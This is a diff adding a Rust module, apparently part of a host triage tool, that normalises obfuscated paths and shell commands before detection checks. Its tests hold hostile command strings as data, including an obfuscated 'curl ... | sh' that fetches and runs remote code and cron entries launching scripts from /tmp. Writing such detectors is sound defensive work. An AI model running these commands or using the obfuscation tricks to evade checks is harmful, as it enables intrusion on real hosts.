@@ -1,0 +1,217 @@
+//! One spelling for paths and commands read from a host's configuration, so that a check judges
+//! what the system would run, not how the attacker chose to write it. `//tmp/x`, `/./tmp/x`,
+//! `/usr/../tmp/x` and `/../dev/shm/x` all name `/tmp/x` or `/dev/shm/x` to the kernel;
+//! `/t''mp/x`, `/t\mp/x` and `curl${IFS}-s` are the same words to a shell. Every check that
+//! judges a path or a command goes through here (the triage indicators do it for them), so a
+//! new spelling is handled in one place.
+
+use std::borrow::Cow;
+
+/// Lexically normalises an absolute path the way the kernel resolves it when no component is a
+/// symlink: repeated slashes fold, `.` components vanish, `..` removes the component before it
+/// and stops at the root. A trailing slash is kept (it marks a directory); a relative path or
+/// text that is not a path is returned unchanged.
+pub fn normalize_path(path: &str) -> Cow<'_, str> {
+    if !path.starts_with('/') || !needs_path_normalizing(path) {
+        return Cow::Borrowed(path);
+    }
+    let mut parts: Vec<&str> = Vec::new();
+    for part in path.split('/') {
+        match part {
+            "" | "." => {}
+            ".." => {
+                parts.pop();
+            }
+            p => parts.push(p),
+        }
+    }
+    let mut out = String::with_capacity(path.len());
+    for p in &parts {
+        out.push('/');
+        out.push_str(p);
+    }
+    let trailing = path.ends_with('/') || path.ends_with("/.") || path.ends_with("/..");
+    if out.is_empty() || trailing {
+        out.push('/');
+    }
+    Cow::Owned(out)
+}
+
+fn needs_path_normalizing(path: &str) -> bool {
+    path.contains("//")
+        || path.contains("/./")
+        || path.contains("/../")
+        || path.ends_with("/.")
+        || path.ends_with("/..")
+}
+
+/// Normalises a command line or config value before it is judged: shell quoting that does not
+/// change a word is removed (`''`, `""`, quotes around part of a word, a backslash before an
+/// ordinary character), `${IFS}` and `$IFS` become spaces, and every absolute path in it is
+/// passed through [`normalize_path`]. A path starts at the beginning of a word or after `=`,
+/// `:` (a `PATH`-like list, but not a URL's `scheme://`), a redirection or another shell
+/// operator. The result is for matching only: report the original text.
+pub fn normalize_command(command: &str) -> Cow<'_, str> {
+    if !command.contains(['/', '\'', '"', '\\', '$']) {
+        return Cow::Borrowed(command);
+    }
+    let unquoted = unquote(command);
+    let paths = normalize_paths_in(&unquoted);
+    if paths == command {
+        Cow::Borrowed(command)
+    } else {
+        Cow::Owned(paths.into_owned())
+    }
+}
+
+/// Removes quoting that only joins characters into one word, the way a shell reads it: the
+/// quote characters go, what they held stays. `${IFS}`/`$IFS` (a field separator attackers use
+/// instead of spaces) become a space.
+fn unquote(text: &str) -> Cow<'_, str> {
+    if !text.contains(['\'', '"', '\\']) && !text.contains("$IFS") && !text.contains("${IFS}") {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut chars = text.chars().peekable();
+    let mut quote: Option<char> = None;
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some('\''), c) => out.push(c),
+            (None, '\'' | '"') => quote = Some(c),
+            (None | Some('"'), '\\') => match chars.next() {
+                // A backslash-newline joins lines; any other escaped character is itself.
+                Some('\n') => {}
+                Some(next) => out.push(next),
+                None => out.push('\\'),
+            },
+            (_, '$') if ifs_follows(&mut chars) => out.push(' '),
+            (_, c) => out.push(c),
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// After a `$`: consumes `IFS` or `{IFS}` (optionally with a `[*]`-free suffix like `IFS%??`
+/// left alone) and says whether it did.
+fn ifs_follows(chars: &mut std::iter::Peekable<std::str::Chars<'_>>) -> bool {
+    let rest: String = chars.clone().take(6).collect();
+    let n = if rest.starts_with("{IFS}") {
+        5
+    } else if rest.starts_with("IFS") && !rest[3..].starts_with(|c: char| c.is_alphanumeric()) {
+        3
+    } else {
+        return false;
+    };
+    for _ in 0..n {
+        chars.next();
+    }
+    true
+}
+
+/// Characters after which a `/` starts a path.
+fn starts_path_after(prev: char) -> bool {
+    prev.is_whitespace() || matches!(prev, '=' | '>' | '<' | '(' | '`' | ';' | '|' | '&' | ',')
+}
+
+/// Characters that end a path inside a command.
+fn ends_path(c: char) -> bool {
+    c.is_whitespace() || matches!(c, ';' | '|' | '&' | ')' | '<' | '>' | '`' | ':' | ',' | '\'' | '"')
+}
+
+fn normalize_paths_in(text: &str) -> Cow<'_, str> {
+    if !text.contains("//") && !text.contains("/.") {
+        return Cow::Borrowed(text);
+    }
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    let mut prev: Option<char> = None;
+    while let Some(c) = rest.chars().next() {
+        let begins = c == '/'
+            && match prev {
+                None => true,
+                Some(':') => !(rest.starts_with("//") && after_url_scheme(&out)),
+                Some(p) => starts_path_after(p),
+            };
+        if begins {
+            let end = rest.find(ends_path).unwrap_or(rest.len());
+            let (path, tail) = rest.split_at(end);
+            out.push_str(&normalize_path(path));
+            prev = path.chars().last();
+            rest = tail;
+        } else {
+            out.push(c);
+            prev = Some(c);
+            rest = &rest[c.len_utf8()..];
+        }
+    }
+    Cow::Owned(out)
+}
+
+/// True when the text written so far ends in `scheme:` (letters, digits, `+.-`, starting with a
+/// letter, at the start of a word): what follows is a URL's `//host`, not a path.
+fn after_url_scheme(written: &str) -> bool {
+    let Some(before_colon) = written.strip_suffix(':') else {
+        return false;
+    };
+    let is_scheme_char = |c: char| c.is_ascii_alphanumeric() || matches!(c, '+' | '.' | '-');
+    let scheme_start = before_colon
+        .char_indices()
+        .rev()
+        .take_while(|(_, c)| is_scheme_char(*c))
+        .last()
+        .map(|(i, _)| i);
+    let Some(start) = scheme_start else {
+        return false;
+    };
+    // `/usr/bin:` is a path list entry, not a scheme.
+    before_colon[start..].starts_with(|c: char| c.is_ascii_alphabetic())
+        && !before_colon[..start].ends_with('/')
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn paths_fold_to_what_the_kernel_opens() {
+        for (spelled, meant) in [
+            ("//tmp/x.sh", "/tmp/x.sh"),
+            ("/./tmp/x.sh", "/tmp/x.sh"),
+            ("/usr/../tmp/x.sh", "/tmp/x.sh"),
+            ("/../dev/shm/x", "/dev/shm/x"),
+            ("/tmp//.x/./y", "/tmp/.x/y"),
+            ("/var/tmp/", "/var/tmp/"),
+            ("/tmp/a/..", "/tmp/"),
+            ("/..", "/"),
+            ("/", "/"),
+            ("/usr/bin/sshd", "/usr/bin/sshd"),
+            ("relative/../x", "relative/../x"),
+        ] {
+            assert_eq!(normalize_path(spelled), meant, "{spelled}");
+        }
+    }
+
+    #[test]
+    fn commands_are_read_as_a_shell_reads_them() {
+        for (spelled, meant) in [
+            ("* * * * * root //tmp/x.sh", "* * * * * root /tmp/x.sh"),
+            ("* * * * * root /./tmp/x.sh", "* * * * * root /tmp/x.sh"),
+            ("@reboot /usr/../tmp/x.sh >/dev/null", "@reboot /tmp/x.sh >/dev/null"),
+            ("ExecStart=/../dev/shm/x", "ExecStart=/dev/shm/x"),
+            ("PATH=/usr/bin:/./tmp", "PATH=/usr/bin:/tmp"),
+            ("/t''mp/x", "/tmp/x"),
+            ("/t\\mp/\"x\"", "/tmp/x"),
+            ("cu''rl${IFS}http://1.2.3.4/a|s\\h", "curl http://1.2.3.4/a|sh"),
+            ("x=1;//tmp/a&&//tmp/b", "x=1;/tmp/a&&/tmp/b"),
+        ] {
+            assert_eq!(normalize_command(spelled), meant, "{spelled}");
+        }
+        // A URL's `//` is not a path's.
+        assert_eq!(
+            normalize_command("curl https://1.2.3.4/x | sh"),
+            "curl https://1.2.3.4/x | sh"
+        );
+        assert!(matches!(normalize_command("ls -la"), Cow::Borrowed(_)));
+    }
+}
